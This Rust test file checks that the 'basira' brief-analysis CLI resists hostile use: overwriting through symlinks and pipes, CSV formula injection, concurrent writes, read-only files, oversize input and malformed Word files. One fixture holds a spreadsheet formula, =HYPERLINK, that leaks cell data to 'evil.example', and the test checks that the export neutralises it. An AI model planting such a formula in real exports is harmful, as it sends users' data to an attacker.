//! Issue 12: the ways a hostile tester lost or endangered an analyst's work through the command
//! line, each run as the real `basira` binary and shown to be closed.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use basira::edit;
use basira::io;
use basira::model::{Brief, BriefId, BriefMeta, Colour, Tag, TagId, Workspace};

fn basira(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_basira"))
        .args(args)
        .output()
        .expect("the basira binary runs")
}

fn arg(path: &Path) -> &str {
    path.to_str().expect("a UTF-8 path")
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn brief(title: &str, text: &str) -> Brief {
    Brief {
        id: BriefId::new(),
        meta: BriefMeta {
            title: title.into(),
            language: "ar".into(),
            ..BriefMeta::default()
        },
        text: text.into(),
        source: None,
        headings: Vec::new(),
        dismissed_proposals: Vec::new(),
    }
}

/// A workspace with one brief titled `title` and one passage in it, saved as `ws.ron`.
fn saved(dir: &Path, title: &str) -> PathBuf {
    let text = "قال الرئيس Trump إن الانسحاب سيكتمل.";
    let brief = brief(title, text);
    let passage = edit::new_passage(&brief, 4, 10, chrono::DateTime::UNIX_EPOCH).expect("passage");
    let ws = Workspace {
        title: "Safety".into(),
        briefs: vec![brief],
        passages: vec![passage],
        ..Workspace::default()
    };
    let path = dir.join("ws.ron");
    io::save(&path, &ws).expect("save");
    path
}

// 2. `--out` never replaces the workspace being read, a device or a pipe.

#[test]
fn export_and_render_refuse_to_write_over_the_workspace_they_read() {
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = saved(dir.path(), "Brief");
    let before = std::fs::read(&ws).expect("read");
    let link = dir.path().join("link.ron");
    std::os::unix::fs::symlink(&ws, &link).expect("symlink");
    for out in [&ws, &link] {
        for format in ["csv", "md", "json"] {
            let run = basira(&["export", arg(&ws), "--format", format, "--out", arg(out)]);
            assert!(!run.status.success(), "{format} to {}", out.display());
            assert!(
                stderr(&run).contains("the file this command reads"),
                "{}",
                stderr(&run)
            );
        }
        let run = basira(&["render", arg(&ws), "--width", "300", "--out", arg(out)]);
        assert!(!run.status.success());
        assert!(
            stderr(&run).contains("the file this command reads"),
            "{}",
            stderr(&run)
        );
    }
    assert_eq!(
        std::fs::read(&ws).expect("read"),
        before,
        "the workspace is untouched"
    );
    assert!(!io::backup_path(&ws).exists());
}

#[test]
fn out_follows_a_link_refuses_a_pipe_and_dash_is_standard_output() {
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = saved(dir.path(), "Brief");
    // Through a symbolic link: the file it points to is written, the link stays a link.
    let real = dir.path().join("real.csv");
    std::fs::write(&real, "old").expect("write");
    let link = dir.path().join("excerpts.csv");
    std::os::unix::fs::symlink(&real, &link).expect("symlink");
    let run = basira(&["export", arg(&ws), "--format", "csv", "--out", arg(&link)]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(
        std::fs::symlink_metadata(&link)
            .expect("link")
            .file_type()
            .is_symlink()
    );
    assert!(
        std::fs::read_to_string(&real)
            .expect("read")
            .contains("passage_id")
    );
    // A named pipe is not replaced by a regular file.
    let fifo = dir.path().join("pipe");
    let made = Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo runs");
    assert!(made.success());
    for args in [
        vec!["export", arg(&ws), "--format", "json", "--out", arg(&fifo)],
        vec!["render", arg(&ws), "--width", "300", "--out", arg(&fifo)],
    ] {
        let run = basira(&args);
        assert!(!run.status.success());
        assert!(
            stderr(&run).contains("not a regular file"),
            "{}",
            stderr(&run)
        );
        assert!(
            std::fs::symlink_metadata(&fifo)
                .expect("still there")
                .file_type()
                .is_fifo()
        );
    }
    // A folder neither.
    let run = basira(&[
        "export",
        arg(&ws),
        "--format",
        "md",
        "--out",
        arg(dir.path()),
    ]);
    assert!(stderr(&run).contains("it is a folder"), "{}", stderr(&run));
    // `-` is standard output, for export and render.
    let run = basira(&["export", arg(&ws), "--format", "json", "--out", "-"]);
    assert!(run.status.success());
    assert!(String::from_utf8_lossy(&run.stdout).contains("الرئيس"));
    let run = basira(&["render", arg(&ws), "--width", "300", "--out", "-"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(run.stdout.starts_with(b"\x89PNG"));
    assert!(!dir.path().join("-").exists());
}

use std::os::unix::fs::FileTypeExt as _;

// 3. CSV cells a spreadsheet would evaluate are neutralised; JSON and Markdown are not.

#[test]
fn a_formula_in_a_brief_title_is_not_live_in_the_csv() {
    let dir = tempfile::tempdir().expect("temp dir");
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Open source")"#;
    let ws = saved(dir.path(), formula);
    let run = basira(&["export", arg(&ws), "--format", "csv", "--out", "-"]);
    assert!(run.status.success());
    let csv = String::from_utf8_lossy(&run.stdout).into_owned();
    let row = csv.lines().nth(1).expect("a row");
    assert!(row.starts_with(r#""'=HYPERLINK("#), "{row}");
    for format in ["json", "md"] {
        let run = basira(&["export", arg(&ws), "--format", format, "--out", "-"]);
        let out = String::from_utf8_lossy(&run.stdout).into_owned();
        assert!(!out.contains("'=HYPERLINK"), "{format}: {out}");
        assert!(out.contains("=HYPERLINK"), "{format}: {out}");
    }
}

// 4. Concurrent writers lose nothing.

#[test]
fn parallel_imports_into_one_workspace_lose_no_brief() {
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = dir.path().join("shared.ron");
    const WRITERS: usize = 4;
    const ROUNDS: usize = 5;
    let files: Vec<PathBuf> = (0..WRITERS)
        .map(|i| {
            let path = dir.path().join(format!("brief{i}.txt"));
            std::fs::write(
                &path,
                format!("Brief number {i}\n\nSome text of brief {i}."),
            )
            .expect("write");
            path
        })
        .collect();
    for round in 0..ROUNDS {
        let children: Vec<_> = files
            .iter()
            .map(|file| {
                Command::new(env!("CARGO_BIN_EXE_basira"))
                    .args(["import", arg(&ws), arg(file)])
                    .stdout(Stdio::null())
                    .stderr(Stdio::piped())
                    .spawn()
                    .expect("starts")
            })
            .collect();
        for child in children {
            let out = child.wait_with_output().expect("waits");
            assert!(out.status.success(), "round {round}: {}", stderr(&out));
        }
        let loaded = io::load(&ws).expect("loads");
        assert_eq!(
            loaded.briefs.len(),
            WRITERS * (round + 1),
            "round {round}: every import's brief is kept"
        );
    }
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with('.'))
        .collect();
    assert!(
        names.is_empty(),
        "no lock or temporary file is left: {names:?}"
    );
}

#[test]
fn a_writer_that_cannot_get_the_lock_names_who_holds_it() {
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = saved(dir.path(), "Brief");
    let before = std::fs::read(&ws).expect("read");
    let file = dir.path().join("new.txt");
    std::fs::write(&file, "A new brief").expect("write");
    let held = io::WorkspaceLock::acquire(&ws).expect("lock");
    let started = std::time::Instant::now();
    let run = basira(&["import", arg(&ws), arg(&file)]);
    assert!(!run.status.success());
    let err = stderr(&run);
    assert!(
        err.contains("ws.ron") && err.contains("being written by"),
        "{err}"
    );
    assert!(
        err.contains(&format!("process {}", std::process::id())),
        "{err}"
    );
    assert!(started.elapsed() >= io::lock::LOCK_WAIT, "it waited first");
    drop(held);
    assert_eq!(std::fs::read(&ws).expect("read"), before);
}

// 5. Validation is linear in the number of tags whatever the depth of the tree.

#[test]
fn a_chain_of_100_000_tags_loads() {
    let ids: Vec<TagId> = (0..100_000).map(|_| TagId::new()).collect();
    let tags = ids
        .iter()
        .enumerate()
        .map(|(i, id)| Tag {
            id: *id,
            name: format!("t{i}"),
            colour: Colour::nth(i),
            parent: i.checked_sub(1).map(|p| ids[p]),
            description: String::new(),
        })
        .collect();
    let ws = Workspace {
        tags,
        ..Workspace::default()
    };
    let text = basira::file::to_ron(&ws);
    let loaded = basira::file::parse(&text).expect("a chain is no cycle");
    assert_eq!(loaded.tags.len(), 100_000);
}

// 6. `render` and `layout` refuse a brief too long to lay out before laying it out.

#[test]
fn render_and_layout_refuse_a_brief_too_long_before_laying_it_out() {
    let dir = tempfile::tempdir().expect("temp dir");
    let long = dir.path().join("long.txt");
    let paragraph = "قال الرئيس Trump إن الانسحاب سيكتمل. ".repeat(40);
    let text = vec![paragraph; 700].join("\n\n");
    assert!(text.chars().count() > basira::cli::MAX_LAYOUT_CHARS);
    std::fs::write(&long, &text).expect("write");
    let png = dir.path().join("page.png");
    for args in [
        vec!["render", arg(&long), "--width", "600", "--out", arg(&png)],
        vec!["layout", arg(&long), "--width", "600", "--json"],
    ] {
        let started = std::time::Instant::now();
        let run = basira(&args);
        assert!(!run.status.success());
        let err = stderr(&run);
        assert!(
            err.contains("long.txt") && err.contains("code points"),
            "{err}"
        );
        assert!(run.stdout.is_empty());
        eprintln!("{} refused in {:.2?}", args[0], started.elapsed());
    }
    assert!(!png.exists());
}

// 7. A workspace that is not writable is refused before any work.

#[test]
fn a_read_only_workspace_is_not_replaced() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = saved(dir.path(), "Brief");
    std::fs::set_permissions(&ws, std::fs::Permissions::from_mode(0o444)).expect("chmod");
    let before = std::fs::read(&ws).expect("read");
    let file = dir.path().join("new.txt");
    std::fs::write(&file, "A new brief").expect("write");
    let run = basira(&["import", arg(&ws), arg(&file)]);
    assert!(!run.status.success());
    let err = stderr(&run);
    assert!(err.contains("ws.ron") && err.contains("read-only"), "{err}");
    assert!(
        !err.contains("new.txt: text"),
        "refused before importing: {err}"
    );
    let run = basira(&["import", arg(&ws), arg(&file), "--new-version-of", "Brief"]);
    assert!(stderr(&run).contains("read-only"), "{}", stderr(&run));
    assert_eq!(std::fs::read(&ws).expect("read"), before);
    let mode = std::fs::metadata(&ws).expect("exists").permissions().mode() & 0o777;
    assert_eq!(mode, 0o444);
    // An export to a read-only file is refused too.
    let out = dir.path().join("out.csv");
    std::fs::write(&out, "keep").expect("write");
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o444)).expect("chmod");
    let run = basira(&["export", arg(&ws), "--format", "csv", "--out", arg(&out)]);
    assert!(stderr(&run).contains("read-only"), "{}", stderr(&run));
    assert_eq!(std::fs::read_to_string(&out).expect("read"), "keep");
}

// 9. Zips, OLE files and UTF-16 text get the right message, or are imported.

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/import/docx")
        .join(name)
}

#[test]
fn zips_and_ole_files_get_the_word_importers_messages() {
    let dir = tempfile::tempdir().expect("temp dir");
    let docx = std::fs::read(fixture("brief.en.docx")).expect("fixture");
    let truncated = dir.path().join("truncated.docx");
    std::fs::write(&truncated, &docx[..docx.len() / 2]).expect("write");
    let err = io::import_brief(&truncated)
        .expect_err("truncated")
        .to_string();
    assert!(
        err.contains("truncated.docx") && err.contains("Word"),
        "{err}"
    );
    assert!(!err.contains("binary file"), "{err}");
    let legacy = io::import_brief(&fixture("brief.en.doc"))
        .expect_err("a .doc")
        .to_string();
    assert!(
        legacy.contains("legacy Word") && legacy.contains("save it as .docx"),
        "{legacy}"
    );
    let encrypted = io::import_brief(&fixture("brief.en.encrypted.docx"))
        .expect_err("encrypted")
        .to_string();
    assert!(encrypted.contains("encrypted"), "{encrypted}");
    // A zip of something else says it is not a Word document.
    let other = dir.path().join("photos.zip");
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("photo.txt", zip::write::SimpleFileOptions::default())
        .expect("entry");
    std::io::Write::write_all(&mut zip, b"not a photo").expect("write");
    std::fs::write(&other, zip.finish().expect("zip").into_inner()).expect("write");
    let err = io::import_brief(&other).expect_err("not Word").to_string();
    assert!(err.contains("word/document.xml"), "{err}");
}

#[test]
fn utf16_text_is_imported_as_utf8() {
    let dir = tempfile::tempdir().expect("temp dir");
    let text = "تقدير موقف\n\nقال الرئيس Trump إن الانسحاب سيكتمل.";
    let units: Vec<u16> = text.encode_utf16().collect();
    let le: Vec<u8> = units.iter().flat_map(|u| u.to_le_bytes()).collect();
    let be: Vec<u8> = units.iter().flat_map(|u| u.to_be_bytes()).collect();
    for (name, bytes) in [
        ("le-bom.txt", [&[0xFF, 0xFE][..], &le].concat()),
        ("be-bom.txt", [&[0xFE, 0xFF][..], &be].concat()),
        ("le.txt", le.clone()),
        ("be.txt", be.clone()),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, &bytes).expect("write");
        let brief = io::import_brief(&path).unwrap_or_else(|e| panic!("{name}: {e}"));
        assert_eq!(brief.text, text, "{name}");
        assert_eq!(brief.meta.title, "تقدير موقف", "{name}");
        let source = brief.source.expect("a source");
        assert_eq!(source.sha256, io::sha256_hex(&bytes), "the file as it was");
    }
}

// 10. `check` reports a context that does not match and an anchor inside a character.

#[test]
fn check_reports_a_flipped_suffix_and_an_anchor_inside_a_character() {
    let dir = tempfile::tempdir().expect("temp dir");
    let ws = saved(dir.path(), "Brief");
    let good = std::fs::read_to_string(&ws).expect("read");
    // The suffix as written starts with " Trump": flip one letter of it.
    assert!(good.contains(r#"suffix: " Trump"#), "{good}");
    let flipped = good.replace(r#"suffix: " Trump"#, r#"suffix: " Tramp"#);
    std::fs::write(&ws, &flipped).expect("write");
    let run = basira(&["check", arg(&ws)]);
    assert!(!run.status.success());
    let err = stderr(&run);
    assert!(err.contains("suffix") && err.contains("Tramp"), "{err}");
    assert_eq!(
        std::fs::read_to_string(&ws).expect("read"),
        flipped,
        "never repaired"
    );

    // «شكَّل»: a passage ending between the kaf and its harakat opens, and check reports it.
    let text = "قال شكَّل الحكومة";
    let brief = brief("Harakat", text);
    let passage = edit::new_passage(&brief, 4, 6, chrono::DateTime::UNIX_EPOCH).expect("passage");
    let split = Workspace {
        briefs: vec![brief],
        passages: vec![passage],
        ..Workspace::default()
    };
    let path = dir.path().join("split.ron");
    io::save(&path, &split).expect("save");
    io::load(&path).expect("it still opens");
    let run = basira(&["check", arg(&path)]);
    assert!(!run.status.success());
    let err = stderr(&run);
    assert!(
        err.contains("inside a character") && err.contains("ends at 6"),
        "{err}"
    );
}
